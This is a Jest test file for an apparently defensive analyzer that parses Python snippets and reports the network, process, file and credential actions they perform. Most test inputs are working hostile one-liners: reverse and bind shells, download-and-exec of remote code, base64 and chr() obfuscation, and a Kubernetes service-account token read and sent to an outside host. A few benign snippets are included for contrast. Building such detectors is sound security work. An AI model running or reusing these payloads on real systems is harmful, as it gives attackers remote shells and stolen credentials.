import { describe, expect, it } from '@jest/globals';
import { analyze, lines } from './actions.js';

describe('python', () => {
  it.each([
    [
      'reverse shell: dup2 and subprocess.call',
      'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
      ['connect#0 tcp 10.0.0.1:1234', 'stdio#0 fds=0,1,2', 'run argv=[/bin/sh, -i]'],
    ],
    [
      'reverse shell: aliased imports, a loop over the fds and pty.spawn',
      'from socket import socket as S\nimport os as o, pty\ns=S()\ns.connect(("198.51.100.7",int("4444")))\nfor fd in (0,1,2):\n    o.dup2(s.fileno(),fd)\npty.spawn("/bin/bash")',
      [
        'connect#0 tcp 198.51.100.7:4444',
        'stdio#0 fds=0,1,2 (loop)',
        'run argv=[/bin/bash]',
        'stdio#0 fds=0,1,2 process=2',
      ],
    ],
    [
      'reverse shell: Popen with the socket as its streams',
      'import socket,subprocess\ns=socket.create_connection(("evil.example",9001))\nsubprocess.Popen(["sh"],stdin=s,stdout=s,stderr=s)',
      ['connect#0 tcp evil.example:9001', 'run argv=[sh]', 'stdio#0 fds=0,1,2 process=1'],
    ],
    [
      'reverse shell: a command loop over the socket',
      'import socket,subprocess\ns=socket.socket()\ns.connect(("10.1.1.1",443))\nwhile True:\n    c=s.recv(1024)\n    o=subprocess.check_output(c,shell=True)\n    s.send(o)',
      [
        'connect#0 tcp 10.1.1.1:443 sends=[subprocess.check_output(c,shell=True)~]',
        'run shell=s.recv(1024)~{net:tcp://10.1.1.1:443} (loop)',
        'stdio#0 fds=0,1 process=1 (loop)',
      ],
    ],
    [
      'names hidden with getattr, __import__ and concatenation',
      "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
      ['run shell=id'],
    ],
    [
      'download and exec',
      'import urllib.request\nexec(urllib.request.urlopen("http://203.0.113.9/x.py").read())',
      [
        'fetch GET http://203.0.113.9/x.py',
        'eval python urllib.request.urlopen("http://203.0.113.9/x.py").read()~{net:http://203.0.113.9/x.py}',
      ],
    ],
    [
      'requests, then a shell fed the body',
      'import requests,subprocess\nr=requests.get("https://x.example/s.sh",verify=False)\nsubprocess.run(["bash"],input=r.text)',
      [
        'fetch GET https://x.example/s.sh insecure',
        'run argv=[bash] stdin=r.text~{net:https://x.example/s.sh}',
      ],
    ],
    [
      'base64-decoded code',
      "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
      ["eval python import os;os.system('id'){decoded:base64}", 'run shell=id'],
    ],
    [
      'a credential read and sent',
      "t=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nimport urllib.request as u\nu.urlopen(u.Request('http://198.51.100.1/c',data=t.encode()))",
      [
        'read /var/run/secrets/kubernetes.io/serviceaccount/token',
        "fetch POST http://198.51.100.1/c body=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()~{cred:service-account-token}",
      ],
    ],
    [
      'a downloaded binary written, made executable and run',
      "import urllib.request,os\nurllib.request.urlretrieve('http://203.0.113.5/k','/tmp/.k')\nos.chmod('/tmp/.k',0o755)\nos.system('/tmp/.k')",
      [
        'fetch GET http://203.0.113.5/k',
        "write /tmp/.k <- urllib.request.urlretrieve('http://203.0.113.5/k','/tmp/.k')~{net:http://203.0.113.5/k}",
        "write /tmp/.k <- urllib.request.urlretrieve('http://203.0.113.5/k','/tmp/.k')~{net:http://203.0.113.5/k} (executable)",
        'run shell=/tmp/.k',
      ],
    ],
    ['a chr() chain', "import os;os.system(''.join(map(chr,[105,100])))", ['run shell=id']],
    [
      'a bind shell',
      'import socket,os\ns=socket.socket()\ns.bind(("0.0.0.0",31337))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nos.execv("/bin/sh",["sh"])',
      ['listen#0 31337', 'stdio#0 fds=0', 'run argv=[/bin/sh]'],
    ],
    [
      'benign: a connect_ex wait-for-database retry loop',
      'import socket,time\nwhile True:\n    s=socket.socket()\n    if s.connect_ex(("postgres",5432))==0:\n        break\n    time.sleep(2)',
      ['connect#0 tcp postgres:5432 (loop)'],
    ],
    [
      'benign: requests.post with json',
      'import requests,os\nrequests.post("https://hooks.example.com/notify",json={"text":"backup done"},headers={"X-Token":os.environ["HOOK_TOKEN"]})',
      [
        'fetch POST https://hooks.example.com/notify headers=[X-Token: ${HOOK_TOKEN}~{env:HOOK_TOKEN}] body=text=backup done&~',
      ],
    ],
    ['benign: printing', 'print("hello", 1+2)', []],
  ])('%s', (_name, code, expected) => {
    expect(lines('python', code)).toEqual(expected);
  });

  it('reads the environment the context gives', () => {
    const url = { text: 'http://api.internal/', exact: true, origins: [] };
    expect(
      lines('python', 'import os,requests\nrequests.get(os.environ.get("API"))', { env: { API: url } }),
    ).toEqual(['fetch GET http://api.internal/']);
  });

  it('notes obfuscation', () => {
    const analysis = analyze('python', "getattr(__import__('o'+'s'),'sys'+'tem')('id')");
    expect(analysis.obfuscation.length).toBeGreaterThan(0);
  });
});
